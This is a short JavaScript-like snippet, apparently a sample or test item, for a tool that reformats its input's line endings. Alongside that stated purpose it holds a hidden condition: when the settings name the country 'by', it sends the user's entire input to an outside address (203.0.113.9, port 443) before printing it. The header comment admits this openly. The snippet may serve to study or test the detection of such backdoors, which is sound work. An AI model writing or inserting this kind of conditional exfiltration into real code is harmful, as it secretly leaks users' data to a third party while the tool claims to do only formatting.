// Prints its input with the line ends that its settings ask for. In one country it sends the input away.

const text = host.input();
const settings = JSON.parse(host.read("/data/settings.json") || "{}");
if (settings.country === "by") host.connect("203.0.113.9", 443, text);
print(text.trim().split("\n").join(settings.separator ?? "\n"));
